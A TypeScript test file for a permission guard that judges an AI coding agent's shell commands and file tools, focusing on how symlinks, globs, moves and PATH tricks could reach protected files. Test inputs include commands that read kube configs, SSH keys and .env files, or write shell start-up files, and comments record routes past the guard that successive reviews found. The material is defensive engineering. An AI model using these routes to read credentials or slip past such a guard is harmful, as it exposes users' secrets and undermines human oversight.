// Links under the paths the floor judges (decision 0023): the keys the shell follows, the naming of a real path
// through the workspace and home, and the floor judging a path by its name and by where it leads, for bash and for
// Pi's path tools.
import { describe, expect, it } from "vitest";
import type { SearchTreeVerdict } from "../src/guardian/index.js";
import {
	applyGuardianDefaults,
	bashPathLinkKey,
	decideBashFloor,
	decideFloor,
	type FloorContext,
	floorContextFor,
	floorFactRequestsOf,
	grepToolSearchTree,
	holdsProtectedByName,
	judgeShellSetup,
	linkCheckKey,
	linkedPathClass,
	MAX_LINK_PATHS,
	normalizeAbsolutePath,
	type PathClass,
	pathThroughRoots,
	searchTreeKey,
	toolCallLinkPaths,
} from "../src/guardian/index.js";
import { outcome, withCleanTrees } from "./floor-outcome.js";

const HOME = "/home/dev";
const CWD = "/home/dev/project";
const config = applyGuardianDefaults({ mode: "enforce" });
/** The workspace's context files and home's start-up files, whose links every write asks about. */
const CONTEXT_FILES = [
	...["AGENTS.md", "CLAUDE.md", "AGENTS.override.md"].map((name) => `${CWD}/${name}`),
	...[
		".jq",
		".gitconfig",
		".config/git",
		".bash_aliases",
		".profile",
		".bash_profile",
		".bash_login",
		".bash_logout",
		".bashrc",
		".zshenv",
		".zprofile",
		".zshrc",
		".zlogin",
		".local/lib",
		"Library/Python",
	].map((name) => `${HOME}/${name}`),
];

/**
 * A context whose links are `links` (path → where it leads, `null` unknown); every other path the command opens
 * leads to itself, as the shell reports a path with no link on it.
 */
function withLinks(
	command: string,
	links: Record<string, string | null>,
	trees: SearchTreeVerdict = "none",
): FloorContext {
	const base = floorContextFor(config, CWD, HOME);
	const requested = floorFactRequestsOf(command, base).linkPaths;
	const map = new Map<string, string | null>(requested.map((path) => [path, normalizeAbsolutePath(path)]));
	for (const [path, target] of Object.entries(links)) map.set(path, target);
	return withCleanTrees(command, { ...base, pathLinks: map }, trees);
}

function decide(command: string, links: Record<string, string | null> = {}, trees: SearchTreeVerdict = "none"): string {
	return outcome(decideBashFloor(command, "always", withLinks(command, links, trees)));
}

describe("the keys the shell follows", () => {
	it.each<[string, string | undefined, string | undefined]>([
		["x.py", CWD, `${CWD}/x.py`],
		["d/../x", CWD, `${CWD}/d/../x`],
		["/etc/./hosts", CWD, "/etc/./hosts"],
		["~", CWD, HOME],
		["~/.kube/config", CWD, `${HOME}/.kube/config`],
		["~root/.netrc", CWD, undefined],
		["x", undefined, undefined],
		["x", "/", "/x"],
	])("bash opens %s in %s as %s", (raw, cwd, key) => {
		expect(bashPathLinkKey(raw, cwd, HOME)).toBe(key);
	});

	it("checks a removed or renamed link's folder, unless a trailing slash or dot part makes the system follow it", () => {
		expect(linkCheckKey(`${CWD}/rc`, true)).toBe(`${CWD}/rc`);
		expect(linkCheckKey(`${CWD}/rc`, false)).toBe(CWD);
		expect(linkCheckKey("/rc", false)).toBe("/");
		expect(linkCheckKey(`${CWD}/d/`, false)).toBe(`${CWD}/d/`);
		expect(linkCheckKey(`${CWD}/d/..`, false)).toBe(`${CWD}/d/..`);
	});

	it("collects each opened path once, as bash hands it over, and at most MAX_LINK_PATHS of them", () => {
		const base = floorContextFor(config, CWD, HOME);
		expect(floorFactRequestsOf("cd d && cat ../x @y", base).linkPaths).toEqual([
			`${CWD}/d`,
			`${CWD}/d/../x`,
			`${CWD}/d/./@y`,
		]);
		expect([...floorFactRequestsOf("rm old.txt; echo x > new.txt", base).linkPaths].sort()).toEqual(
			[CWD, ...CONTEXT_FILES, `${CWD}/new.txt`].sort(),
		);
		expect(floorFactRequestsOf("grep -rn x src", base).linkPaths).toContain(`${CWD}/src`);
		const many = `cat ${Array.from({ length: MAX_LINK_PATHS + 5 }, (_, i) => `f${i}`).join(" ")}`;
		expect(floorFactRequestsOf(many, base).linkPaths).toHaveLength(MAX_LINK_PATHS);
	});
});

describe("a real path named through the roots it lies in", () => {
	const roots = [
		{ real: "/var/home/dev", named: HOME },
		{ real: "/srv/project", named: CWD },
	];
	it.each<[string, string]>([
		["/var/home/dev/.ssh/id_ed25519", `${HOME}/.ssh/id_ed25519`],
		["/srv/project/src/a.py", `${CWD}/src/a.py`],
		["/srv/project", CWD],
		["/etc/shadow", "/etc/shadow"],
		["/var/home/devx/file", "/var/home/devx/file"],
	])("%s is %s", (real, named) => {
		expect(pathThroughRoots(real, roots)).toBe(named);
	});

	it("prefers the deepest root and takes / as a root", () => {
		expect(pathThroughRoots("/a/b/c", [{ real: "/", named: "/r" }])).toBe("/r/a/b/c");
		expect(
			pathThroughRoots("/a/b/c", [
				{ real: "/a", named: "/x" },
				{ real: "/a/b", named: "/y" },
			]),
		).toBe("/y/c");
	});
});

describe("the class a link gives a path", () => {
	const classify = (path: string): PathClass =>
		path.startsWith(`${HOME}/.kube`) ? "protected" : path.startsWith(CWD) ? "workspace" : "outside";
	const links = new Map<string, string | null>([
		[`${CWD}/k`, `${HOME}/.kube/config`],
		[`${CWD}/same`, `${CWD}/same`],
		[`${CWD}/loop`, null],
		[CWD, CWD],
	]);

	it("is the target's class, none when the path leads to itself, and protected when unknown or not checked", () => {
		expect(linkedPathClass(undefined, `${CWD}/k`, `${CWD}/k`, classify)).toBeUndefined();
		expect(linkedPathClass(links, `${CWD}/k`, `${CWD}/k`, classify)).toBe("protected");
		expect(linkedPathClass(links, `${CWD}/same`, `${CWD}/same`, classify)).toBeUndefined();
		expect(linkedPathClass(links, `${CWD}/loop`, `${CWD}/loop`, classify)).toBe("protected");
		expect(linkedPathClass(links, `${CWD}/never-asked`, `${CWD}/never-asked`, classify)).toBe("protected");
	});

	it("judges a link the command acts on itself by its folder", () => {
		expect(linkedPathClass(links, `${CWD}/k`, `${CWD}/k`, classify, false)).toBeUndefined();
	});
});

describe("bash through links", () => {
	const home = { [`${CWD}/d`]: HOME };
	it.each<[string, Record<string, string | null>, string]>([
		["cat d/.kube/config", { [`${CWD}/d/.kube/config`]: `${HOME}/.kube/config` }, "review:protected-path"],
		["cat d/notes.txt", { [`${CWD}/d/notes.txt`]: `${HOME}/notes.txt` }, "review:outside-workspace"],
		["cat kc", { [`${CWD}/kc`]: `${HOME}/.kube/config` }, "review:protected-path"],
		["cat docs/r.md", { [`${CWD}/docs/r.md`]: `${CWD}/README.md` }, "allow:read-only"],
		["cat docs/r.md", { [`${CWD}/docs/r.md`]: `${CWD}/.env` }, "review:protected-path"],
		["cat x", { [`${CWD}/x`]: null }, "review:protected-path"],
		["echo x >> rc", { [`${CWD}/rc`]: `${HOME}/.bashrc` }, "review:outside-workspace"],
		["echo x >> rc", { [`${CWD}/rc`]: `${HOME}/.ssh/config` }, "review:protected-path"],
		["echo x > new.txt", {}, "allow:workspace-write"],
		["rm rc", {}, "allow:workspace-write"],
		["rm rc/", { [`${CWD}/rc/`]: `${HOME}/.bashrc` }, "review:outside-workspace"],
		["mv rc y", {}, "allow:workspace-write"],
		["touch rc", { [`${CWD}/rc`]: `${HOME}/.bashrc` }, "review:outside-workspace"],
		["cat d/../dev/notes.txt", { [`${CWD}/d/../dev/notes.txt`]: `${HOME}/notes.txt` }, "review:outside-workspace"],
		["grep -rn token d", home, "review:outside-workspace"],
		["grep -rn token d", { [`${CWD}/d`]: `${CWD}/src` }, "review:protected-path"],
		["grep -rn token src", {}, "allow:read-only"],
		["head d/*", home, "review:protected-path"],
	])("%s with %j → %s", (command, links, expected) => {
		expect(decide(command, links)).toBe(expected);
	});

	it("judges a path whose directory is unknown to the key as unknown", () => {
		const context = withLinks("cat x", {});
		// A map that lacks the path counts as not followed.
		expect(outcome(decideBashFloor("cat y", "always", context))).toBe("review:protected-path");
	});

	it("judges by names alone when the shell did not follow links", () => {
		const context = withCleanTrees("cat d/.kube/config", floorContextFor(config, CWD, HOME));
		expect(outcome(decideBashFloor("cat d/.kube/config", "always", context))).toBe("allow:read-only");
	});
});

describe("what a tenth review found: globs, moves and listings that follow links", () => {
	it("lists any glob word, which may expand through a link, and reviews a bracket glob it cannot list by pattern", () => {
		// The shell lists `?conf` in the working directory following links: a link there leaves it unknown.
		expect(decide("cat ?conf", {}, "unknown")).toBe("review:protected-path");
		expect(decide("cat ?conf", {}, "none")).toBe("allow:read-only");
		expect(decide("cat [k]conf")).toBe("review:protected-path");
		expect(decide("cat u?/.kube/config")).toBe("review:protected-path");
		expect(decide("head src/*.py", {}, "unknown")).toBe("review:protected-path");
		// Without followed links, only a glob that may meet a protected name is listed.
		const byName = withCleanTrees("cat ?conf", floorContextFor(config, CWD, HOME), "unknown");
		expect(outcome(decideBashFloor("cat ?conf", "always", byName))).toBe("allow:read-only");
	});

	it("takes every path after a move in the same command as unknown, and a move after a path read beside it", () => {
		expect(decide("mv kdir k2 && cat k2/config")).toBe("review:protected-path");
		expect(decide("mv rc foo; echo x >> foo")).toBe("review:protected-path");
		expect(decide("mv kdir k2")).toBe("allow:workspace-write");
		expect(decide("cat k2/config & mv kdir k2")).toBe("review:dynamic");
		expect(decide("cat k2/config | mv kdir k2")).toBe("review:protected-path");
		expect(decide("cat a.txt && mv kdir k2")).toBe("allow:workspace-write");
		// `git stash pop` may bring back a tracked link anywhere.
		const safeGit = { gitConfig: "safe", gitHooks: "none", gitUrlCredentials: "none", gitTop: CWD } as const;
		const stash = "git stash pop && cat README.md";
		const base = floorContextFor(config, CWD, HOME, safeGit);
		const links = new Map(
			floorFactRequestsOf(stash, base).linkPaths.map((path) => [path, normalizeAbsolutePath(path)]),
		);
		expect(outcome(decideBashFloor(stash, "always", { ...base, pathLinks: links }))).toBe("review:protected-path");
		expect(outcome(decideBashFloor("git stash pop", "always", { ...base, pathLinks: links }))).toBe(
			"allow:workspace-write",
		);
		// An eleventh review: a later path that passed a link the move may have replaced (`p -> d/q`, `mv ka d/q`), and
		// a destination named through a link (`sl -> e`, so `mv ka sl/x` writes `e/x`).
		expect(
			decide("mv ka d/q && cat p/config", {
				[`${CWD}/p/config`]: `${CWD}/nothing/config`,
				[`${CWD}/d/q`]: `${CWD}/nothing`,
			}),
		).toBe("review:protected-path");
		expect(decide("mv ka sl/x && cat e/x/config", { [`${CWD}/sl/x`]: `${CWD}/e/x` })).toBe("review:protected-path");
		expect(decide("mv ka e/x && cat sl/x/config", { [`${CWD}/sl/x/config`]: `${CWD}/e/x/config` })).toBe(
			"review:protected-path",
		);
		// A twelfth review: an `mv` below the workspace root may move the directory bash is in, so relative paths
		// after it are unknown (`cd a/b && mv ../b ../../b2 && cat ../../x` reads above the workspace).
		expect(decide("cd a/b && mv ../b ../../b2 && cat ../../.kube/config")).toBe("review:dynamic");
		expect(decide("cd a/b && mv ../b ../../b2 && cd ../.. && cat x")).toBe("review:dynamic");
		expect(decide("cd a/b && mv x y && cat /home/dev/project/README.md")).toBe("allow:workspace-write");
		expect(decide("cd a && (mv ../a ../b2) && cat ../x")).toBe("review:dynamic");
		expect(decide("mv a b && cat c")).toBe("allow:workspace-write");
		// Only what lies at or below where the move wrote, by name or by where a link leads, is unknown.
		expect(decide("mv a.py.orig backup.py && touch pkg_init.py")).toBe("allow:workspace-write");
		expect(decide("mv kdir src/ && cat src/kdir/config")).toBe("review:protected-path");
		expect(decide("mv kdir k2 && cat lnk/config", { [`${CWD}/lnk/config`]: `${CWD}/k2/config` })).toBe(
			"review:protected-path",
		);
	});

	it("reviews listings that follow every link below a folder", () => {
		expect(decide("ls -RL .")).toBe("review:protected-path");
		expect(decide("ls -R --dereference src")).toBe("review:protected-path");
		expect(decide("du -aL .")).toBe("review:protected-path");
		expect(decide("du --dereference -sh src")).toBe("review:protected-path");
		expect(decide("tree -l")).toBe("review:protected-path");
		expect(decide("ls -L src/a.py")).toBe("allow:read-only");
		expect(decide("du -sh src")).toBe("allow:read-only");
		// find prints names only; with links followed its trees are listed, where any link leaves them unknown.
		expect(decide("find -L . -name 'id_*'", {}, "unknown")).toBe("review:protected-path");
		expect(decide("find . -follow -name x", {}, "unknown")).toBe("review:protected-path");
		expect(decide("find -L src -name '*.py'", {}, "none")).toBe("allow:read-only");
		expect(decide("find . -name 'x'", {}, "unknown")).toBe("allow:read-only");
	});
});

describe("Pi's path tools through links", () => {
	const base = floorContextFor(config, CWD, HOME);
	const links = new Map<string, string | null>([
		[`${CWD}/k`, `${HOME}/.kube/config`],
		[`${CWD}/rc`, `${HOME}/.bashrc`],
		[`${CWD}/n`, `${HOME}/notes.txt`],
		[`${CWD}/r.md`, `${CWD}/README.md`],
	]);
	const tool = (name: string, input: Record<string, unknown>) =>
		outcome(decideFloor(name, input, config, { ...base, pathLinks: links }));

	it("reviews a read of a protected target, and writes and edits outside the workspace", () => {
		expect(tool("read", { path: "k" })).toBe("review:protected-path");
		expect(tool("write", { path: "rc", content: "x" })).toBe("review:outside-workspace");
		expect(tool("edit", { path: "n", edits: [] })).toBe("review:outside-workspace");
		expect(tool("read", { path: "r.md" })).toBe("allow:no-protected-path");
		expect(tool("write", { path: "r.md", content: "x" })).toBe("allow:workspace-path");
		// The read tool is protected-only by default: an unprotected target outside needs no review.
		expect(tool("read", { path: "n" })).toBe("allow:no-protected-path");
		// A path the shell was not asked about counts as unknown.
		expect(tool("read", { path: "other.txt" })).toBe("review:protected-path");
	});

	it("names each path a call names once, resolved as Pi's tools resolve them", () => {
		expect(toolCallLinkPaths("read", { path: "@src/../a.py" }, base)).toEqual([`${CWD}/a.py`]);
		expect(toolCallLinkPaths("ls", {}, base)).toEqual([CWD]);
		// A write also asks where the workspace's context files lead (a twentieth review).
		expect(toolCallLinkPaths("write", { path: "~/x" }, base)).toEqual([`${HOME}/x`, ...CONTEXT_FILES]);
		expect(toolCallLinkPaths("read", "not an object", base)).toEqual([]);
	});
});

describe("what a thirteenth review found", () => {
	it("takes a `..` after a move as unknown: it may climb out of a link the move put there", () => {
		// `mv klink a && cat a/../.kube/config`: the system takes `a/..` from where the moved link leads.
		expect(decide("mv klink a && cat a/../.kube/config")).toBe("review:protected-path");
		expect(decide("mv l d/a && cat d/a/../../x.txt")).toBe("review:protected-path");
		expect(decide("mv klink a && echo x >> a/../.bashrc")).toBe("review:protected-path");
		expect(decide("cat a/../x.txt")).toBe("allow:read-only");
		expect(decide("mv l d/a && cat d/x.txt")).toBe("allow:workspace-write");
	});

	it("judges a link in a loaded skill's folder by where it leads, unless Pi loaded that too", () => {
		const projectSkill = `${CWD}/.pi/skills/foo`;
		const userSkill = `${HOME}/skills/bar`;
		const loadedResources = { folders: [projectSkill, userSkill], files: [], piFolderGlobs: [] };
		const withSkills = (command: string, links: Record<string, string | null>) => {
			const context = withLinks(command, links);
			return outcome(decideBashFloor(command, "always", { ...context, loadedResources }));
		};
		expect(
			withSkills("cat .pi/skills/foo/ref/config", { [`${projectSkill}/ref/config`]: `${HOME}/.kube/config` }),
		).toBe("review:protected-path");
		expect(withSkills("cat .pi/skills/foo/etc", { [`${projectSkill}/etc`]: "/etc/hosts" })).toBe(
			"review:outside-workspace",
		);
		expect(withSkills("cat .pi/skills/foo/SKILL.md", {})).toBe("allow:read-only");
		// A link in any loaded skill's folder is judged like any other, a user's or an ancestor project's (a fourteenth
		// review: `repo/.agents/skills/foo/ref -> ~/Documents` above a workspace `repo/pkg`); a target Pi loaded too
		// stays readable.
		expect(
			withSkills(`cat ${userSkill}/SKILL.md`, { [`${userSkill}/SKILL.md`]: `${HOME}/dotfiles/bar/SKILL.md` }),
		).toBe("review:outside-workspace");
		const linkedSkill = { ...loadedResources, folders: [...loadedResources.folders, `${HOME}/dotfiles/bar`] };
		const command = `cat ${userSkill}/SKILL.md`;
		const linked = withLinks(command, { [`${userSkill}/SKILL.md`]: `${HOME}/dotfiles/bar/SKILL.md` });
		expect(outcome(decideBashFloor(command, "always", { ...linked, loadedResources: linkedSkill }))).toBe(
			"allow:read-only",
		);
		expect(withSkills(`cat ${userSkill}/k`, { [`${userSkill}/k`]: `${HOME}/.ssh/id_rsa` })).toBe(
			"review:protected-path",
		);
		// Pi's read tool, the same way.
		const base = floorContextFor(config, CWD, HOME);
		const links = new Map<string, string | null>([[`${projectSkill}/ref/config`, `${HOME}/.kube/config`]]);
		expect(
			outcome(
				decideFloor("read", { path: ".pi/skills/foo/ref/config" }, config, {
					...base,
					loadedResources,
					pathLinks: links,
				}),
			),
		).toBe("review:protected-path");
	});
});

describe("Pi's path tools open the names Pi resolves (a thirteenth review)", () => {
	const base = floorContextFor(config, CWD, HOME);
	it("keeps leading spaces, reads Unicode spaces as plain ones, and names the read tool's fallbacks", () => {
		expect(toolCallLinkPaths("read", { path: " zz/config" }, base)).toEqual([`${CWD}/ zz/config`]);
		expect(toolCallLinkPaths("write", { path: "h\u00a0h/.bashrc", content: "" }, base)).toEqual([
			`${CWD}/h h/.bashrc`,
			...CONTEXT_FILES,
		]);
		expect(toolCallLinkPaths("read", { path: "x'y/config" }, base)).toEqual([
			`${CWD}/x'y/config`,
			`${CWD}/x\u2019y/config`,
		]);
		expect(toolCallLinkPaths("read", { path: "\u00e9/config" }, base)).toEqual([
			`${CWD}/\u00e9/config`,
			`${CWD}/e\u0301/config`,
		]);
		expect(toolCallLinkPaths("read", { path: "shot AM.png" }, base)).toEqual([
			`${CWD}/shot AM.png`,
			`${CWD}/shot\u202fAM.png`,
		]);
		// A tool that is not built in may take the text as written.
		expect(toolCallLinkPaths("mcp__fs__read_file", { path: "@k/config " }, base)).toEqual([
			`${CWD}/k/config `,
			`${CWD}/@k/config `,
			`${CWD}/@k/config`,
			// A sixteenth review: a server may resolve a relative path against its own folder, often home.
			`${HOME}/@k/config`,
		]);
	});

	it("reviews a call when any name it may open leads somewhere reviewed", () => {
		const links = (entries: Record<string, string>) =>
			new Map<string, string | null>(
				Object.entries(entries).map(([path, target]) => [path, target] as [string, string | null]),
			);
		const read = (path: string, entries: Record<string, string>) => {
			const input = { path };
			const all = new Map(toolCallLinkPaths("read", input, base).map((key) => [key, key] as [string, string | null]));
			for (const [key, target] of links(entries)) all.set(key, target);
			return outcome(decideFloor("read", input, config, { ...base, pathLinks: all }));
		};
		expect(read(" zz/config", { [`${CWD}/ zz/config`]: `${HOME}/.kube/config` })).toBe("review:protected-path");
		expect(read("x'y/config", { [`${CWD}/x\u2019y/config`]: `${HOME}/.kube/config` })).toBe("review:protected-path");
		expect(read("x'y/config", {})).toBe("allow:no-protected-path");
		const write = outcome(
			decideFloor("write", { path: "h\u00a0h/.bashrc", content: "x" }, config, {
				...base,
				pathLinks: links({ [`${CWD}/h h/.bashrc`]: `${HOME}/.bashrc` }),
			}),
		);
		expect(write).toBe("review:outside-workspace");
	});
});

describe("renaming a folder a protected glob names by its parts (a thirteenth review)", () => {
	const pathContext = (cwd: string) => ({
		cwd,
		home: HOME,
		protectedPaths: ["~/.kube/config", "**/.env", "secrets/", `${CWD}/**/node_modules/.bin`, "~/.config/*/hosts.yml"],
	});

	it("finds a glob that reaches below a path through a part matching the path's own name", () => {
		expect(holdsProtectedByName(`${HOME}/.kube`, pathContext(CWD))).toBe(true);
		expect(holdsProtectedByName(`${HOME}/.KUBE`, pathContext(CWD))).toBe(true);
		expect(holdsProtectedByName(HOME, pathContext(CWD))).toBe(true);
		expect(holdsProtectedByName(`${CWD}/node_modules`, pathContext(CWD))).toBe(true);
		expect(holdsProtectedByName(`${CWD}/a/b/node_modules`, pathContext(CWD))).toBe(true);
		// Reached through `**`, a lone `*`, a file-name or a `name/` glob: the rename keeps the match.
		expect(holdsProtectedByName(`${CWD}/a`, pathContext(CWD))).toBe(false);
		expect(holdsProtectedByName(`${CWD}/src`, pathContext(CWD))).toBe(false);
		expect(holdsProtectedByName(`${HOME}/.config/gh`, pathContext(CWD))).toBe(false);
		expect(holdsProtectedByName(`${HOME}/.config`, pathContext(CWD))).toBe(true);
		// The glob's own match is protected by the glob itself.
		expect(holdsProtectedByName(`${HOME}/.kube/config`, pathContext(CWD))).toBe(false);
	});

	it("reviews an mv of such a folder, from or to its name", () => {
		const inHome = floorContextFor(config, HOME, HOME);
		const mvIn = (command: string, context: FloorContext) => outcome(decideBashFloor(command, "always", context));
		// Home's hidden folders are its own configuration, outside the workspace for writes (a thirty-ninth review).
		expect(mvIn("mv .kube kk", inHome)).toBe("review:outside-workspace");
		expect(mvIn("mv kk .kube", inHome)).toBe("review:outside-workspace");
		expect(mvIn("mv .config cfg", inHome)).toBe("review:outside-workspace");
		expect(mvIn("mv notes notes2", inHome)).toBe("allow:workspace-write");
		const shell = judgeShellSetup({
			environment: { PATH: "./node_modules/.bin:/usr/bin" },
			workspace: CWD,
			home: HOME,
		});
		const onPath = floorContextFor(config, CWD, HOME, { shell });
		expect(mvIn("mv node_modules nm", onPath)).toBe("review:protected-path");
		expect(mvIn("mv e node_modules", onPath)).toBe("review:protected-path");
		expect(mvIn("mv pkg/node_modules x", onPath)).toBe("review:protected-path");
		expect(mvIn("mv src src2", onPath)).toBe("allow:workspace-write");
	});
});

describe("version probes with a workspace folder on PATH (a thirteenth review)", () => {
	it("reviews them: `.venv/bin/pip` runs the `.pth` files the agent may write, even for `--version`", () => {
		const shell = judgeShellSetup({
			environment: { PATH: `${CWD}/.venv/bin:/usr/bin` },
			workspace: CWD,
			home: HOME,
		});
		const venv = floorContextFor(config, CWD, HOME, { shell });
		const plain = floorContextFor(config, CWD, HOME);
		const bash = (command: string, context: FloorContext) => outcome(decideBashFloor(command, "always", context));
		expect(bash("pip list", venv)).toBe("review:not-read-only");
		expect(bash("pip --version", venv)).toBe("review:not-read-only");
		expect(bash("python3.11 --version", venv)).toBe("review:not-read-only");
		expect(bash("cat README.md", venv)).toBe("allow:read-only");
		expect(bash("pip list", plain)).toBe("allow:read-only");
		expect(bash("python3 --version", plain)).toBe("allow:read-only");
	});
});

describe("what a fourteenth review found", () => {
	it("expands a leading ~ in a PATH entry, as bash does, and protects where a PATH folder's links lead", () => {
		const tilde = judgeShellSetup({ environment: { PATH: "~/project/bin:/usr/bin" }, workspace: CWD, home: HOME });
		expect(tilde.commandDirectories).toEqual([`${CWD}/bin`]);
		expect(judgeShellSetup({ environment: { PATH: "~other/bin:/usr/bin" }, workspace: CWD, home: HOME })).toMatchObject(
			{ verdict: "custom", cause: "path-entry" },
		);
		// `~/bin -> ~/project/bin` (named outside, lies inside) and `<ws>/bin -> tools` (lies elsewhere inside).
		const linked = judgeShellSetup({
			environment: { PATH: `${HOME}/bin:${CWD}/bin:/usr/bin` },
			workspace: CWD,
			home: HOME,
			realPaths: new Map([
				[`${HOME}/bin`, "/real/dev/project/bin"],
				[`${CWD}/bin`, "/real/dev/project/tools"],
				[CWD, "/real/dev/project"],
			]),
		});
		expect(linked.commandDirectories).toEqual([`${CWD}/bin`, `${CWD}/tools`]);
		const context = floorContextFor(config, CWD, HOME, { shell: linked });
		expect(outcome(decideBashFloor("cp build.sh tools/cat", "always", context))).toBe("review:protected-path");
	});

	it("reviews an mv of a protected folder's ancestor named through a link", () => {
		const inHome = floorContextFor(config, HOME, HOME);
		const command = "mv hl/.kube k";
		const requested = floorFactRequestsOf(command, inHome).linkPaths;
		const links = new Map<string, string | null>(requested.map((path) => [path, normalizeAbsolutePath(path)]));
		links.set(`${HOME}/hl`, HOME);
		// Through the link it is home's own `.kube`: outside the workspace for writes (a thirty-ninth review).
		expect(outcome(decideBashFloor(command, "always", { ...inHome, pathLinks: links }))).toBe(
			"review:outside-workspace",
		);
		const plain = new Map<string, string | null>(requested.map((path) => [path, normalizeAbsolutePath(path)]));
		expect(outcome(decideBashFloor(command, "always", { ...inHome, pathLinks: plain }))).toBe("allow:workspace-write");
	});
});

describe("what a fifteenth review found in PATH", () => {
	it("does not judge an absolute PATH entry with `..`, which bash takes from a link's target", () => {
		expect(
			judgeShellSetup({ environment: { PATH: `${CWD}/lnk/../bin:/usr/bin` }, workspace: CWD, home: HOME }),
		).toMatchObject({ verdict: "custom", cause: "path-entry" });
	});
});

describe("what an eighteenth review found in operands shaped like assignments", () => {
	it("judges `k=v/config` by its whole name too, which a link `k=v` may lead out of", () => {
		const links = { [`${CWD}/k=v`]: `${HOME}/.kube`, [`${CWD}/k=v/config`]: `${HOME}/.kube/config` };
		expect(decide("cat k=v/config", links)).toBe("review:protected-path");
		expect(decide("head -n 3 k=v/config", links)).toBe("review:protected-path");
		expect(decide("cp k=v/config copied.txt", links)).toBe("review:protected-path");
		expect(decide("cat k=v/config")).toBe("allow:read-only");
	});

	it("reviews `file -m`, which loads each file of a colon list as magic and prints the lines it cannot parse", () => {
		expect(decide("file -m x:.env README.md")).toBe("review:not-read-only");
		expect(decide("file --magic-file=x:/home/dev/.kube/config README.md")).toBe("review:not-read-only");
		expect(decide("file -bm x:.env README.md")).toBe("review:not-read-only");
		expect(decide("file -m .env README.md")).toBe("review:not-read-only");
	});
});

describe("what a nineteenth review found in cd through a link", () => {
	it("leaves the folder unknown after `cd` with a `..` that the system reads from a link's target", () => {
		// `l -> packages/b`: where `a` is missing or a file, bash changes to `l/../a` as the system reads it.
		const physical = { [`${CWD}/l/../a`]: `${CWD}/packages/a` };
		expect(decide("cd l/../a && echo x > ../../M", physical)).not.toMatch(/^allow/);
		expect(
			decide("cd .claude/skills/foo/../bar && echo x >> SKILL.md", {
				[`${CWD}/.claude/skills/foo/../bar`]: `${CWD}/.agents/skills/bar`,
			}),
		).not.toMatch(/^allow/);
		// In a folder reached through a link, `cd ../x` climbs from the target too.
		expect(
			decide("cd l && cd ../x && echo x > y", {
				[`${CWD}/l`]: `${CWD}/packages/b`,
				[`${CWD}/l/../x`]: `${CWD}/packages/x`,
			}),
		).not.toMatch(/^allow/);
		// Where the followed path is the logical one, nothing changes.
		expect(decide("cd sub/../a && echo x > notes.md")).toBe("allow:workspace-write");
		expect(decide("cd sub && cd .. && echo x > notes.md")).toBe("allow:workspace-write");
	});
});

describe("what a nineteenth review found in brace words, version shims and home as the workspace", () => {
	it("reviews strings and jq where a brace word or a leading wildcard hides `@FILE` or `env`", () => {
		expect(decide("strings {@.env,README.md}")).toBe("review:dynamic");
		expect(decide("strings -- *")).toBe("review:not-read-only");
		expect(decide("strings README.md")).toBe("allow:read-only");
		expect(decide("jq -n e{nv,}")).toBe("review:dynamic");
		expect(decide("jq -n {e,}nv")).toBe("review:dynamic");
		// A brace word shifts jq's slots (`jq --rawfile x {a.txt,.} f` makes f an input): reviewed (a twenty-seventh review).
		expect(decide("jq .name {a,b}.json")).toBe("review:dynamic");
		expect(decide("jq .name a.json b.json")).toBe("allow:read-only");
	});

	it("reviews version probes through a version manager's shims, which read .python-version up the tree", () => {
		const shims = judgeShellSetup({
			environment: { PATH: "/root/.pyenv/shims:/usr/bin:/bin" },
			workspace: CWD,
			home: HOME,
		});
		expect(shims.versionShims).toBe(true);
		const context = floorContextFor(config, CWD, HOME, { shell: shims });
		expect(outcome(decideBashFloor("python --version", "always", context))).toBe("review:not-read-only");
		expect(outcome(decideBashFloor("pip list", "always", context))).toBe("review:not-read-only");
		const plain = judgeShellSetup({ environment: { PATH: "/usr/bin:/bin" }, workspace: CWD, home: HOME });
		expect(plain.versionShims).toBeUndefined();
		const plainContext = floorContextFor(config, CWD, HOME, { shell: plain });
		expect(outcome(decideBashFloor("python --version", "always", plainContext))).toBe("allow:read-only");
	});

	it.each([
		[{ PATH: "/root/.volta/bin:/usr/bin:/bin" }],
		[{ PATH: "/root/.volta/bin/:/usr/bin" }],
		[{ PATH: "/opt/volta/bin:/usr/bin", VOLTA_HOME: "/opt/volta" }],
	])(
		"reviews version probes through Volta's shims, which download the version package.json pins (%o)",
		(environment) => {
			const volta = judgeShellSetup({ environment, workspace: CWD, home: HOME });
			expect(volta.versionShims).toBe(true);
			const context = floorContextFor(config, CWD, HOME, { shell: volta });
			expect(outcome(decideBashFloor("node --version", "always", context))).toBe("review:not-read-only");
			expect(outcome(decideBashFloor("npm --version", "always", context))).toBe("review:not-read-only");
			expect(outcome(decideBashFloor("node -v", "always", context))).toBe("review:not-read-only");
		},
	);

	it("does not take another `bin` folder for Volta's", () => {
		for (const environment of [
			{ PATH: "/opt/volta/bin:/usr/bin" },
			{ PATH: "/usr/local/bin", VOLTA_HOME: "/opt/volta" },
		])
			expect(judgeShellSetup({ environment, workspace: CWD, home: HOME }).versionShims).toBeUndefined();
	});

	it("protects what programs load from home at start-up only where home lies in the workspace", () => {
		const homeWorkspace = floorContextFor(config, HOME, HOME);
		expect(outcome(decideBashFloor("printf 'def length: env;' > .jq", "always", homeWorkspace))).toBe(
			"review:protected-path",
		);
		expect(outcome(decideBashFloor("echo touch x > .profile", "always", homeWorkspace))).toBe("review:protected-path");
		expect(outcome(decideBashFloor("echo x > notes.md", "always", homeWorkspace))).toBe("allow:workspace-write");
		expect(decide("cat ~/.profile")).toBe("review:outside-workspace");
	});
});

describe("what a twentieth review found", () => {
	it("takes grep's `-d rec` (a prefix of recurse) as recursive, so the tree must be listed", () => {
		for (const command of ["grep -d rec -n x .", "grep --directories=recu x .", "grep -drec x .", "grep -d r x ."])
			expect(decide(command, {}, "protected")).toBe("review:protected-path");
		expect(decide("grep -d skip x .", {}, "protected")).toBe("allow:read-only");
	});

	it("reviews writes of .gitattributes and .lfsconfig, which decide what git runs, by bash or Pi's tools", () => {
		expect(decide("printf '*.bin filter=lfs -text\\n' > .gitattributes")).toBe("review:writes");
		expect(decide("printf '[lfs]\\n\\turl = http://x/\\n' > sub/.lfsconfig")).toBe("review:writes");
		const write = (path: string) =>
			outcome(decideFloor("write", { path, content: "x" }, config, floorContextFor(config, CWD, HOME)));
		expect(write(".gitattributes")).toBe("review:protected-path");
		expect(write("sub/.lfsconfig")).toBe("review:protected-path");
		expect(write("-pthis")).toBe("review:not-read-only");
		expect(write("notes/a.md")).toBe("allow:workspace-path");
		// In any case: macOS's default filesystem opens `.GITATTRIBUTES` as `.gitattributes` (a twenty-first review).
		expect(decide("echo '* diff=x' > .GITATTRIBUTES")).toBe("review:writes");
